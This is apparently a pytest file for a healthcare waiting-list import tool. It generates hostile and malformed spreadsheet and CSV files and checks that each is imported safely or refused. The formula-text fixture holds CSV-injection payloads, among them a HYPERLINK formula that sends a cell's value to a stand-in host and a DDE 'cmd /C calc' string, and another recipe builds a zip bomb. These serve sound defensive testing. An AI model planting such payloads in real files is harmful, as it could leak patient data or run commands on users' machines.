"""Hostile and broken files: each imports with the right findings, or is refused in plain words.

A refused file leaves the workspace byte for byte as it was (its sha256 is
compared) and still holding the list it had. Nothing hangs: the command-line
runs of the refused files are separate processes with a time limit, and none
may print a Python traceback. Every file is made here, by the test, from a
recipe in ``CORPUS``; ``python tests/test_hostile_files.py`` writes them all to
``tests/data/generated/`` to try by hand (see tests/data/README.md).
"""

from __future__ import annotations

import codecs
import csv
import hashlib
import io
import json
import shutil
import struct
import subprocess
import sys
import zipfile
from datetime import date, timedelta
from pathlib import Path

import numpy as np
import pytest
from openpyxl import Workbook, load_workbook

from workbench.cli import main
from workbench.store.importer import import_file
from workbench.errors import WorkbenchError
from workbench.read.readers import preview
from workbench.store.workspace import Workspace

ROOT = Path(__file__).resolve().parent.parent
CENSUS = date(2026, 11, 2)
HEADERS = ["Pathway ID", "NHS Number", "RTT Clock Start", "Priority", "Notes"]
FIRST_OF_MARCH = np.datetime64("2025-03-01")
CLI_SECONDS = 60  # far more than any refusal takes; a hang fails instead of blocking the suite


# --- the corpus: one recipe per file ------------------------------------------------


def write_text(path: Path, rows: list[list[str]], encoding: str = "utf-8") -> Path:
    with open(path, "w", newline="", encoding=encoding) as handle:
        csv.writer(handle).writerows(rows)
    return path


def ragged_csv(folder: Path) -> Path:
    """Rows shorter and longer than the header (a hand-edited file)."""
    text = ("Pathway ID,NHS Number,RTT Clock Start,Priority\n"
            "A1,9434765919,01/03/2025,P2\n"
            "A2,9876543210\n"
            "A3,4000000632,01/03/2025,P3,extra,cells\n")
    (folder / "ragged.csv").write_text(text, encoding="utf-8")
    return folder / "ragged.csv"


def quoted_csv(folder: Path) -> Path:
    """Values with embedded line breaks, commas and doubled quotes."""
    return write_text(folder / "quoted.csv", [
        HEADERS,
        ["A1", "9434765919", "01/03/2025", "P2", 'Line one\nline two, with "quotes"'],
        ["A2", "9876543210", "01/03/2025", "P3", "a\r\nb"],
    ])


def mixed_encodings_csv(folder: Path) -> Path:
    """Mostly UTF-8, with one line saved by a cp1252 program."""
    path = folder / "mixed.csv"
    with open(path, "wb") as handle:
        handle.write(",".join(HEADERS).encode() + b"\n")
        handle.write("A1,9434765919,01/03/2025,P2,café\n".encode("utf-8"))
        handle.write("A2,9876543210,01/03/2025,P3,£25 taxi\n".encode("cp1252"))
    return path


def bom_with_a_windows_line_csv(folder: Path) -> Path:
    """UTF-8 with a byte order mark, and one line added later by a program that saved cp1252."""
    path = folder / "bom-mixed.csv"
    with open(path, "wb") as handle:
        handle.write(codecs.BOM_UTF8 + ",".join(HEADERS).encode() + b"\n")
        handle.write("A1,9434765919,01/03/2025,P2,café\n".encode("utf-8"))
        handle.write("A2,9876543210,01/03/2025,P3,£25 taxi\n".encode("cp1252"))
    return path


def bom_csv(folder: Path) -> Path:
    return write_text(folder / "bom.csv", [HEADERS, ["A1", "9434765919", "01/03/2025", "P2", ""]], "utf-8-sig")


def duplicate_headers_csv(folder: Path) -> Path:
    return write_text(folder / "duplicate-headers.csv", [
        ["Pathway ID", "RTT Clock Start", "Priority", "Priority", "Notes", "Notes"],
        ["A1", "01/03/2025", "P2", "2", "first", "second"],
    ])


def formula_text_csv(folder: Path) -> Path:
    """Text that a spreadsheet would run as a formula (CSV injection)."""
    return write_text(folder / "formula-text.csv", [
        HEADERS,
        ["A1", "9434765919", "01/03/2025", "P2", '=HYPERLINK("http://192.0.2.1/?leak="&B2,"Click")'],
        ["A2", "9876543210", "01/03/2025", "P3", "@SUM(1+1)*cmd|' /C calc'!A0"],
        ["A3", "4000000632", "01/03/2025", "P4", "+1+1"],
        ["A4", "9434765919", "01/03/2025", "P4", "-2+3"],
    ])


def big_cell_csv(folder: Path) -> Path:
    """One cell of 10 MB (a pasted document)."""
    return write_text(folder / "big-cell.csv", [HEADERS, ["A1", "9434765919", "01/03/2025", "P2", "x" * 10_000_000],
                                                ["A2", "9876543210", "01/03/2025", "P3", "short"]])


def three_date_formats_csv(folder: Path) -> Path:
    """1 March 2025 written four ways in one column (UK numeric, ISO, and with month names)."""
    rows = [[f"A{i}", "9434765919", text, "P3", ""]
            for i, text in enumerate(["01/03/2025", "2025-03-01", "1 March 2025", "1-Mar-2025", "13/03/2025"], 1)]
    return write_text(folder / "dates.csv", [HEADERS, *rows])


def scientific_nhs_numbers_csv(folder: Path) -> Path:
    """NHS numbers as Excel saves a number column to CSV: some in scientific notation."""
    return write_text(folder / "scientific.csv", [
        HEADERS, ["A1", "9.43477E+09", "01/03/2025", "P2", ""], ["A2", "9434765919", "01/03/2025", "P2", ""]])


def nul_byte_csv(folder: Path) -> Path:
    """A NUL byte deep in an otherwise good file (a damaged copy)."""
    path = folder / "nul.csv"
    rows = "".join(f"A{i},9434765919,01/03/2025,P3,ok\n" for i in range(3000))
    path.write_bytes(",".join(HEADERS).encode() + b"\n" + rows.encode() + b"B1,9876543210,01/03/2025,P2,a\x00b\n")
    return path


def title_and_merged_xlsx(folder: Path) -> Path:
    """A hand-built workbook: merged title rows above the table, a priority merged down three rows."""
    book = Workbook()
    sheet = book.active
    sheet["A1"] = "Orthopaedics PTL: week ending 01/11/2026"
    sheet.merge_cells("A1:E1")
    sheet["A2"] = "Produced by the information team"
    sheet.merge_cells("A2:E2")
    sheet.append([])
    sheet.append(HEADERS)
    for i, number in enumerate([9434765919, 9876543210, 4000000632], 1):
        sheet.append([f"A{i}", number, date(2025, 3, 1), "P2" if i == 1 else None, ""])
    sheet.merge_cells("D5:D7")
    book.save(folder / "merged.xlsx")
    return folder / "merged.xlsx"


def formulas_xlsx(folder: Path) -> Path:
    """Formula cells with the values Excel last showed cached beside them."""
    book = Workbook()
    sheet = book.active
    sheet.append(HEADERS)
    sheet.append(["A1", 9434765919, date(2025, 3, 1), '=IF(1>0,"P2","P4")', '=HYPERLINK("http://192.0.2.1/","x")'])
    sheet.append(["A2", 9876543210, date(2025, 3, 1), "P3", "=1+1"])
    buffer = io.BytesIO()
    book.save(buffer)
    cached = {'<f>IF(1&gt;0,"P2","P4")</f><v />': '<f>IF(1&gt;0,"P2","P4")</f><v>P2</v>',
              '<f>HYPERLINK("http://192.0.2.1/","x")</f><v />': '<f>HYPERLINK("http://192.0.2.1/","x")</f><v>x</v>',
              "<f>1+1</f><v />": "<f>1+1</f><v>2</v>"}
    return _rewrite_sheet(buffer, folder / "formulas.xlsx", cached, string_cells=("D2", "E2"))


def _rewrite_sheet(buffer: io.BytesIO, path: Path, replacements: dict[str, str], string_cells=()) -> Path:
    """Copy a workbook, editing the first sheet's XML (openpyxl cannot write cached values)."""
    with zipfile.ZipFile(buffer) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                text = data.decode()
                for old, new in replacements.items():
                    assert old in text, old
                    text = text.replace(old, new)
                for ref in string_cells:  # a formula giving text says so with t="str"
                    text = text.replace(f'<c r="{ref}">', f'<c r="{ref}" t="str">')
                data = text.encode()
            target.writestr(item, data)
    return path


def numbers_as_numbers_xlsx(folder: Path) -> Path:
    """NHS numbers and dates stored as numbers: a Scottish CHI number has lost its leading zero."""
    book = Workbook()
    sheet = book.active
    sheet.append(HEADERS)
    sheet.append(["A1", 9434765919, 45717, "P2", ""])  # Excel serial 45717 is 01/03/2025
    sheet.append(["A2", 101011234, date(2025, 3, 1), "P2", ""])  # CHI 0101011234 typed as a number
    sheet.append(["A3", 9434765919.0, "01/03/2025", "P3", ""])
    book.save(folder / "numbers.xlsx")
    return folder / "numbers.xlsx"


def stray_cell_far_below_xlsx(folder: Path) -> Path:
    """Two patients, then one stray cell in the sheet's very last row."""
    return workbook_with_a_stray_cell(folder / "stray.xlsx", "A1048576")


def workbook_with_a_stray_cell(path: Path, cell: str) -> Path:
    """Two patients, and "stray" typed in ``cell``."""
    book = Workbook()
    sheet = book.active
    sheet.append(HEADERS)
    sheet.append(["A1", 9434765919, date(2025, 3, 1), "P2", ""])
    sheet.append(["A2", 9876543210, date(2025, 3, 1), "P3", ""])
    sheet[cell] = "stray"
    book.save(path)
    return path


def hidden_first_sheet_xlsx(folder: Path) -> Path:
    """A hidden "Old list" sheet of 7 patients before the visible "PTL" sheet of 200."""
    book = Workbook()
    old = book.active
    old.title = "Old list"
    old.append(HEADERS)
    for i in range(7):
        old.append([f"OLD{i}", 9434765919, date(2024, 3, 1), "P3", ""])
    old.sheet_state = "hidden"
    ptl = book.create_sheet("PTL")
    ptl.append(HEADERS)
    for i in range(200):
        ptl.append([f"PTL{i}", 9434765919, date(2025, 3, 1), "P2", ""])
    book.active = 1
    book.save(folder / "hidden-first-sheet.xlsx")
    return folder / "hidden-first-sheet.xlsx"


def stray_cell_at_xfd_xlsx(folder: Path) -> Path:
    """A 5 KB workbook: two patients and one cell in the sheet's very last row and column."""
    return workbook_with_a_stray_cell(folder / "stray-xfd.xlsx", "XFD1048576")


def stray_cell_at_cv_xlsx(folder: Path) -> Path:
    """One stray cell at CV1048576: a hundred columns by a million rows to lay out."""
    return workbook_with_a_stray_cell(folder / "stray-cv.xlsx", "CV1048576")


def xls_saved_as_csv(folder: Path) -> Path:
    """An Excel 97-2003 workbook (.xls) that someone named .csv."""
    rows = [HEADERS, ["X1", "9434765919", "01/03/2025", "P2", "old format"], ["X2", "", "02/03/2025", "P3", ""]]
    (folder / "old-format.csv").write_bytes(compound_file(biff8_workbook(rows, "PTL")))
    return folder / "old-format.csv"


def biff8_workbook(rows: list[list[str]], sheet: str) -> bytes:
    """The "Workbook" stream of an .xls: BIFF8 records, every cell text in the shared-string table."""
    def record(kind: int, data: bytes = b"") -> bytes:
        return struct.pack("<HH", kind, len(data)) + data

    def text(value: str, length_bytes: str = "<H") -> bytes:  # 8-bit characters
        return struct.pack(length_bytes, len(value)) + b"\x00" + value.encode("latin-1")

    def bof(kind: int) -> bytes:
        return record(0x0809, struct.pack("<HHHHII", 0x0600, kind, 0x0DBB, 0x07CC, 0, 0x06))

    strings = sorted({cell for row in rows for cell in row})
    shared = record(0x00FC, struct.pack("<II", len(strings), len(strings)) + b"".join(map(text, strings)))
    cells = [record(0x00FD, struct.pack("<HHHI", r, c, 0, strings.index(cell)))
             for r, row in enumerate(rows) for c, cell in enumerate(row) if cell]
    width = max(map(len, rows))
    sheet_part = bof(0x10) + record(0x0200, struct.pack("<IIHHH", 0, len(rows), 0, width, 0)) + b"".join(cells)
    before_sheet = bof(0x05) + shared
    boundsheet_size = 4 + 6 + len(text(sheet, "<B"))
    sheet_at = len(before_sheet) + boundsheet_size + len(record(0x000A))
    boundsheet = record(0x0085, struct.pack("<IBB", sheet_at, 0, 0) + text(sheet, "<B"))
    return before_sheet + boundsheet + record(0x000A) + sheet_part + record(0x000A)


def compound_file(stream: bytes) -> bytes:
    """An OLE2 compound file holding one stream, "Workbook": 512-byte sectors, one FAT sector,
    one directory sector, then the stream (padded to 4096 bytes, so it needs no mini stream)."""
    sector, end, free = 512, 0xFFFFFFFE, 0xFFFFFFFF
    stream = stream.ljust(max(4096, -(-len(stream) // sector) * sector), b"\x00")
    count = len(stream) // sector
    fat = [0xFFFFFFFD, end] + list(range(3, count + 2)) + [end]
    header = (bytes.fromhex("D0CF11E0A1B11AE1") + bytes(16) + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
              + bytes(6) + struct.pack("<9I", 0, 1, 1, 0, 4096, end, 0, end, 0)
              + struct.pack("<109I", 0, *[free] * 108))

    def entry(name: str, kind: int, start: int, size: int, child: int = free) -> bytes:
        encoded = (name + "\x00").encode("utf-16-le")
        return (encoded.ljust(64, b"\x00") + struct.pack("<HBB3I", len(encoded), kind, 1, free, free, child)
                + bytes(36) + struct.pack("<3I", start, size, 0))

    directory = (entry("Root Entry", 5, end, 0, child=1) + entry("Workbook", 2, 2, len(stream))).ljust(sector, b"\x00")
    return header + struct.pack("<128I", *fat, *[free] * (128 - len(fat))) + directory + stream


def error_cells_xlsx(folder: Path) -> Path:
    """Cells showing Excel errors: a clock start looked up from a closed workbook, a priority
    from a deleted column, an NHS number from a lookup that found nothing."""
    book = Workbook()
    sheet = book.active
    sheet.append(HEADERS)
    sheet.append(["E1", 9434765919, date(2025, 3, 1), "P2", ""])
    sheet.append(["E2", "#N/A", "#REF!", "#VALUE!", "looked up"])
    for ref in ("B3", "C3", "D3"):
        sheet[ref].data_type = "e"
    book.save(folder / "error-cells.xlsx")
    return folder / "error-cells.xlsx"


def empty_file(folder: Path) -> Path:
    (folder / "empty.csv").write_bytes(b"")
    return folder / "empty.csv"


def blank_lines_only(folder: Path) -> Path:
    (folder / "blank-lines.csv").write_bytes(b"\n \n\t\n,,,\n")
    return folder / "blank-lines.csv"


def password_protected_xlsx(folder: Path) -> Path:
    """Excel saves a workbook with a password as an encrypted OLE2 container, not a zip."""
    header = bytes.fromhex("D0CF11E0A1B11AE1") + b"\x00" * 504
    (folder / "protected.xlsx").write_bytes(header + "EncryptionInfo".encode("utf-16-le") + b"\x00" * 2048)
    return folder / "protected.xlsx"


def renamed_png(folder: Path) -> Path:
    png = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x01\x00" + bytes(range(256)) * 16
    (folder / "picture.csv").write_bytes(png)
    return folder / "picture.csv"


def zip_bomb_xlsx(folder: Path) -> Path:
    """A real workbook whose sheet unpacks to 60 MB of padding: about a thousand times its packed size."""
    book = Workbook()
    book.active.append(HEADERS)
    buffer = io.BytesIO()
    book.save(buffer)
    return _rewrite_sheet(buffer, folder / "bomb.xlsx", {"<sheetData>": "<sheetData>" + " " * 60_000_000})


def unclosed_quote_csv(folder: Path) -> Path:
    text = ",".join(HEADERS) + '\nA1,9434765919,01/03/2025,P2,"never closed\nA2,9876543210,01/03/2025,P3,\n'
    (folder / "unclosed.csv").write_text(text, encoding="utf-8")
    return folder / "unclosed.csv"


def stray_quote_csv(folder: Path) -> Path:
    """200 patients; a note on line 62 opens a quote that is never closed on its line, and the
    next quote in the file is on line 161 (every reader folds the lines between into one cell)."""
    lines = [",".join(HEADERS)]
    for i in range(1, 201):
        note = {62: '"Urgent per GP', 161: 'checked by "AB" today'}.get(i + 1, "ok")
        lines.append(f"S{i:03d},9434765919,01/03/2025,P{2 + i % 3},{note}")
    (folder / "stray-quote.csv").write_text("\n".join(lines) + "\n", encoding="utf-8")
    return folder / "stray-quote.csv"


def no_clock_start_csv(folder: Path) -> Path:
    return write_text(folder / "no-clock-start.csv", [["Pathway ID", "Priority"], ["A1", "P2"]])


# Files the workbench must refuse, with the words that say why.
REFUSED = {
    "empty": (empty_file, "the file is empty"),
    "blank lines only": (blank_lines_only, "the file is empty"),
    "password-protected workbook": (password_protected_xlsx, "is password-protected or encrypted"),
    "renamed PNG": (renamed_png, "is not a readable spreadsheet or CSV file"),
    "zip bomb": (zip_bomb_xlsx, "would unpack to 57 MB"),
    "unclosed quote": (unclosed_quote_csv, "is never closed"),
    "stray cell at XFD1048576": (stray_cell_at_xfd_xlsx, "has cells out to XFD1048576 (1,048,576 rows by 16,384"),
    "stray cell at CV1048576": (stray_cell_at_cv_xlsx, "typed far outside the list"),
    "no clock start column": (no_clock_start_csv, "no column found for wait_start"),
}
IMPORTED = [ragged_csv, quoted_csv, mixed_encodings_csv, bom_csv, duplicate_headers_csv, formula_text_csv,
            big_cell_csv, three_date_formats_csv, scientific_nhs_numbers_csv, nul_byte_csv, title_and_merged_xlsx,
            formulas_xlsx, numbers_as_numbers_xlsx, stray_cell_far_below_xlsx, stray_quote_csv,
            hidden_first_sheet_xlsx, xls_saved_as_csv, bom_with_a_windows_line_csv,
            error_cells_xlsx]


# --- helpers -------------------------------------------------------------------------


def sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


@pytest.fixture
def workspace(tmp_path):
    """A workspace already holding a three-row list, which a refused file must not touch."""
    source = write_text(tmp_path / "current.csv", [HEADERS] + [[f"C{i}", "9434765919", "01/03/2025", "P2", ""]
                                                               for i in range(3)])
    path = tmp_path / "ward.sqlite"
    import_file(source, path, census_date=CENSUS)
    return path


def imported(path: Path, workspace: Path, **options):
    """Import and check that every row read was stored, in the result and in the workspace."""
    result = import_file(path, workspace, census_date=CENSUS, **options)
    assert result.rows_read == result.rows_stored
    with Workspace.open(workspace) as ws:
        wl = ws.load_list()
        assert len(wl) == result.rows_stored == ws.import_record()["rows_stored"]
    return result, wl


# --- refused files -----------------------------------------------------------------


@pytest.mark.parametrize("case", list(REFUSED))
def test_refused_files_name_the_problem_and_leave_the_workspace_untouched(case, tmp_path, workspace):
    make, words = REFUSED[case]
    path = make(tmp_path)
    before = sha256(workspace)
    with pytest.raises(WorkbenchError) as refused:
        import_file(path, workspace, census_date=CENSUS)
    message = str(refused.value)
    assert message.startswith(path.name) and words in message
    assert sha256(workspace) == before
    with Workspace.open(workspace) as ws:
        assert ws.load_list().columns["pathway_id"].tolist() == ["C0", "C1", "C2"]
    assert sorted(p.name for p in workspace.parent.iterdir() if p.name.startswith("ward")) == ["ward.sqlite"]


def test_refused_files_on_the_command_line_exit_2_in_one_line_without_a_hang(tmp_path, workspace):
    before = sha256(workspace)
    runs = {}
    for case, (make, words) in REFUSED.items():
        path = make(tmp_path)
        # Each run gets its own copy: the processes run at once, and an import holds its workspace's lock.
        target = tmp_path / f"{case}.sqlite"
        shutil.copyfile(workspace, target)
        runs[case] = (path, words, target, subprocess.Popen(
            [sys.executable, "-m", "workbench", "import", str(path), "--workspace", str(target)],
            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, cwd=ROOT))
    for case, (path, words, target, process) in runs.items():
        _, stderr = process.communicate(timeout=CLI_SECONDS)
        assert process.returncode == 2, (case, stderr)
        assert "Traceback" not in stderr
        assert stderr.strip().startswith(f"workbench import: {path.name}") and words in stderr
        assert len(stderr.strip().splitlines()) == 1
        assert sha256(target) == before


# --- files that import -------------------------------------------------------------


def test_ragged_rows_are_padded_and_extra_cells_kept(tmp_path, workspace):
    result, wl = imported(ragged_csv(tmp_path), workspace)
    assert result.rows_stored == 3
    assert wl.columns["wait_start"][1] is not None and np.isnat(wl.columns["wait_start"][1])
    assert result.findings["missing_wait_start"] == 1 and result.findings["missing_priority"] == 1
    assert wl.source["Column 5"].tolist() == [None, None, "extra"]
    assert wl.source["Column 6"].tolist() == [None, None, "cells"]


def test_embedded_line_breaks_and_quotes_survive_and_count_one_row_each(tmp_path, workspace):
    result, wl = imported(quoted_csv(tmp_path), workspace)
    assert result.rows_stored == 2
    assert wl.source["Notes"].tolist() == ['Line one\nline two, with "quotes"', "a\r\nb"]


def test_a_stray_quote_loses_no_patient_and_says_which_lines_it_read_apart(tmp_path, workspace):
    result, wl = imported(stray_quote_csv(tmp_path), workspace)
    assert result.rows_read == 200
    assert wl.columns["pathway_id"].tolist() == [f"S{i:03d}" for i in range(1, 201)]
    assert wl.source["Notes"][60] == '"Urgent per GP' and wl.source["Notes"][159] == 'checked by "AB" today'
    assert wl.columns["source_line"][[60, 159]].tolist() == [62, 161]
    assert any("lines 62 to 161" in w and "'Notes'" in w for w in result.warnings)


def test_a_stray_quote_shows_apart_in_the_preview_too(tmp_path):
    path = tmp_path / "quote.csv"
    path.write_text('Pathway ID,RTT Clock Start,Priority,Notes\nB1,01/02/2026,P3,"Urgent per GP\n'
                    'B2,03/02/2026,P2,ok\nB3,04/02/2026,P4,checked by "AB" today\n', encoding="utf-8")
    table = preview(path)
    assert table.column("Pathway ID").tolist() == ["B1", "B2", "B3"] and table.notes


def test_the_command_line_imports_every_row_of_a_stray_quote_and_warns(tmp_path, capsys):
    path = tmp_path / "quote.csv"
    path.write_text('Pathway ID,RTT Clock Start,Priority,Notes\nB1,01/02/2026,P3,"Urgent per GP\n'
                    'B2,03/02/2026,P2,ok\nB3,04/02/2026,P4,checked by "AB" today\n', encoding="utf-8")
    assert main(["import", str(path), "--workspace", str(tmp_path / "q.sqlite"), "--census-date", "2026-11-01",
                 "--json"]) == 0
    printed = json.loads(capsys.readouterr().out)
    assert printed["rows_read"] == printed["rows_stored"] == 3
    assert any("lines 2 to 4" in w for w in printed["warnings"])


def test_a_hidden_first_sheet_is_skipped_for_the_visible_list_and_the_import_says_so(tmp_path, workspace):
    result, wl = imported(hidden_first_sheet_xlsx(tmp_path), workspace)
    assert result.sheet == "PTL" and result.rows_stored == 200
    assert wl.columns["pathway_id"][0] == "PTL0"
    assert any("hidden sheet 'Old list'" in w for w in result.warnings)


def test_a_hidden_sheet_named_on_purpose_is_read(tmp_path, workspace):
    result, wl = imported(hidden_first_sheet_xlsx(tmp_path), workspace, sheet="Old list")
    assert result.rows_stored == 7 and wl.columns["pathway_id"][0] == "OLD0"


def test_an_xls_saved_as_csv_is_read_as_the_workbook_it_is(tmp_path, workspace):
    result, wl = imported(xls_saved_as_csv(tmp_path), workspace)
    assert result.sheet == "PTL" and wl.columns["pathway_id"].tolist() == ["X1", "X2"]
    assert wl.source["Notes"].tolist() == ["old format", None]


def test_excel_error_cells_are_kept_and_flagged_not_read_as_blanks(tmp_path, workspace):
    result, wl = imported(error_cells_xlsx(tmp_path), workspace)
    assert [wl.source[h][1] for h in HEADERS[1:4]] == ["#N/A", "#REF!", "#VALUE!"]
    assert result.findings["unreadable_date"] == 1 and result.findings["unknown_priority"] == 1
    assert result.findings["nhs_number_invalid"] == 1 and "missing_wait_start" not in result.findings


def test_mixed_encodings_read_as_windows_text_without_losing_a_row(tmp_path, workspace):
    # The whole file is read as cp1252 once any byte is not UTF-8: identifiers and
    # dates are plain ASCII and read right; accented UTF-8 text shows garbled.
    result, wl = imported(mixed_encodings_csv(tmp_path), workspace)
    assert wl.columns["pathway_id"].tolist() == ["A1", "A2"]
    assert (wl.columns["wait_start"] == FIRST_OF_MARCH).all()
    assert wl.source["Notes"][1] == "£25 taxi"
    assert "nhs_number_invalid" not in result.findings


def test_a_windows_line_in_a_utf8_file_with_a_byte_order_mark_keeps_its_characters(tmp_path, workspace):
    result, wl = imported(bom_with_a_windows_line_csv(tmp_path), workspace)
    assert result.mapping["pathway_id"] == "Pathway ID"
    assert wl.source["Notes"].tolist() == ["café", "£25 taxi"]


def test_byte_order_mark_is_not_part_of_the_first_header(tmp_path, workspace):
    result, _ = imported(bom_csv(tmp_path), workspace)
    assert result.mapping["pathway_id"] == "Pathway ID"


def test_duplicate_headers_are_kept_apart_and_the_first_is_mapped(tmp_path, workspace):
    result, wl = imported(duplicate_headers_csv(tmp_path), workspace)
    assert result.mapping["clinical_priority"] == "Priority"
    assert "Priority (2)" in result.unmapped
    assert wl.source["Notes"].tolist() == ["first"] and wl.source["Notes (2)"].tolist() == ["second"]


def test_formula_text_is_stored_as_text_and_exported_inert(tmp_path, workspace):
    _, wl = imported(formula_text_csv(tmp_path), workspace)
    assert wl.source["Notes"][0].startswith("=HYPERLINK(")  # kept exactly as the file had it
    xlsx, csv_out = tmp_path / "ranked.xlsx", tmp_path / "ranked.csv"
    for out in (xlsx, csv_out):
        assert main(["rank", "--workspace", str(workspace), "--rules", "treat-in-turn", "--out", str(out)]) == 0
    with zipfile.ZipFile(xlsx) as book:
        sheets = [book.read(n).decode() for n in book.namelist() if n.startswith("xl/worksheets/")]
    assert not any("<f>" in xml or "<f " in xml for xml in sheets)  # no formula cell anywhere
    notes = [row[-1] for row in load_workbook(xlsx)["Ranked list"].iter_rows(min_row=2, values_only=True)]
    assert sorted(notes) == sorted(["'" + v for v in wl.source["Notes"]])
    with open(csv_out, encoding="utf-8-sig", newline="") as handle:
        exported = [row[-1] for row in csv.reader(handle)][2:]  # after the rules' line and the headers
    assert all(cell.startswith("'") for cell in exported)


def test_a_ten_megabyte_cell_is_stored_whole(tmp_path, workspace):
    result, wl = imported(big_cell_csv(tmp_path), workspace)
    assert result.rows_stored == 2
    assert len(wl.source["Notes"][0]) == 10_000_000 and wl.source["Notes"][1] == "short"


def test_a_cell_too_long_for_excel_is_cut_saying_so_and_the_export_warns(tmp_path, workspace, capsys):
    imported(big_cell_csv(tmp_path), workspace)
    xlsx, csv_out = tmp_path / "ranked.xlsx", tmp_path / "ranked.csv"
    assert main(["rank", "--workspace", str(workspace), "--rules", "treat-in-turn", "--out", str(xlsx), "--json"]) == 0
    warnings = json.loads(capsys.readouterr().out)["warnings"]
    assert len(warnings) == 1 and "1 cell was longer than Excel's 32,767 characters" in warnings[0]
    book = load_workbook(xlsx, read_only=True)
    notes = [row[-1] for row in book["Ranked list"].iter_rows(min_row=2, values_only=True)]
    cut = next(note for note in notes if note != "short")
    assert len(cut) <= 32_767 and cut.endswith("this one has 10,000,000 characters; an export to .csv keeps it whole]")
    assert ("Cells cut to fit Excel", "1 (longer than 32,767 characters; the .csv export keeps them whole)") in [
        tuple(row) for row in book["Provenance"].iter_rows(values_only=True)]
    assert main(["rank", "--workspace", str(workspace), "--rules", "treat-in-turn", "--out", str(csv_out)]) == 0
    assert "x" * 10_000_000 in csv_out.read_text(encoding="utf-8-sig")


def test_dates_in_several_formats_in_one_column_all_read_as_uk_dates(tmp_path, workspace):
    result, wl = imported(three_date_formats_csv(tmp_path), workspace)
    assert wl.columns["wait_start"][:4].tolist() == [FIRST_OF_MARCH.item()] * 4
    assert wl.columns["wait_start"][4] == np.datetime64("2025-03-13")
    assert "unreadable_date" not in result.findings


def test_nhs_numbers_mangled_by_scientific_notation_are_flagged_not_guessed(tmp_path, workspace):
    result, wl = imported(scientific_nhs_numbers_csv(tmp_path), workspace)
    assert result.findings["nhs_number_invalid"] == 1
    assert wl.columns["nhs_number"].tolist() == ["9.43477E+09", "9434765919"]


def test_a_nul_byte_deep_in_the_file_loses_no_row(tmp_path, workspace):
    result, wl = imported(nul_byte_csv(tmp_path), workspace)
    assert result.rows_stored == 3001
    assert wl.columns["pathway_id"][-1] == "B1" and wl.columns["clinical_priority"][-1] == "P2"


def test_title_rows_are_skipped_and_merged_priorities_are_flagged_missing(tmp_path, workspace):
    # A merged cell holds its value in its first row only: the rows below are
    # blank, so they are flagged for the user to fix, never filled in by guessing.
    result, wl = imported(title_and_merged_xlsx(tmp_path), workspace)
    assert result.rows_stored == 3 and result.mapping["clinical_priority"] == "Priority"
    assert wl.columns["clinical_priority"].tolist() == ["P2", None, None]
    assert result.findings["missing_priority"] == 2


def test_formula_cells_import_the_value_excel_showed_and_run_nothing(tmp_path, workspace):
    result, wl = imported(formulas_xlsx(tmp_path), workspace)
    assert wl.columns["clinical_priority"].tolist() == ["P2", "P3"]
    assert wl.source["Notes"].tolist() == ["x", "2"]
    assert "missing_priority" not in result.findings


def test_numbers_stored_as_numbers_keep_their_digits_and_a_lost_zero_is_flagged(tmp_path, workspace):
    result, wl = imported(numbers_as_numbers_xlsx(tmp_path), workspace)
    assert wl.columns["nhs_number"].tolist() == ["9434765919", "101011234", "9434765919"]
    assert result.findings["nhs_number_invalid"] == 1
    assert (wl.columns["wait_start"] == FIRST_OF_MARCH).all()


def test_a_stray_cell_far_below_the_table_is_kept_and_the_gap_counted(tmp_path, workspace):
    result, wl = imported(stray_cell_far_below_xlsx(tmp_path), workspace)
    assert result.rows_stored == 3 and wl.columns["pathway_id"][-1] == "stray"
    assert result.blank_rows == 1_048_576 - 4
    assert result.findings["missing_wait_start"] == 1


@pytest.mark.slow
def test_a_million_rows_are_all_stored(tmp_path, workspace):
    rows = 1_000_003
    path, missing = write_big_csv(tmp_path / "million.csv", rows)
    result, _ = imported(path, workspace)
    assert result.rows_read == result.rows_stored == rows
    assert result.blank_rows == 2
    assert result.findings["missing_priority"] == missing


def write_big_csv(path: Path, rows: int) -> tuple[Path, int]:
    """A plain list of ``rows`` patients with two blank lines in the middle; returns it and the blank priorities."""
    random = np.random.default_rng(7)
    days = random.integers(0, 1000, rows).tolist()
    priorities = random.integers(0, 4, rows)
    starts = [(date(2023, 1, 1) + timedelta(days=d)).strftime("%d/%m/%Y") for d in range(1000)]
    names = ["P2", "P3", "P4", ""]
    with open(path, "w", encoding="utf-8", newline="") as handle:
        handle.write("Pathway ID,RTT Clock Start,Priority\n")
        half = rows // 2
        for block in (range(half), range(half, rows)):
            handle.writelines(f"PW{i:07d},{starts[days[i]]},{names[p]}\n"
                              for i, p in zip(block, priorities[block.start:block.stop].tolist()))
            if block.start == 0:
                handle.write("\n,,\n")  # a blank line and a row of empty cells
    return path, int((priorities == 3).sum())


if __name__ == "__main__":
    # Write the whole corpus for trying by hand: python tests/test_hostile_files.py
    target = Path(__file__).parent / "data" / "generated"
    target.mkdir(parents=True, exist_ok=True)
    for recipe in IMPORTED + [make for make, _ in REFUSED.values()]:
        print(recipe(target))
    print(write_big_csv(target / "million.csv", 1_000_003)[0])
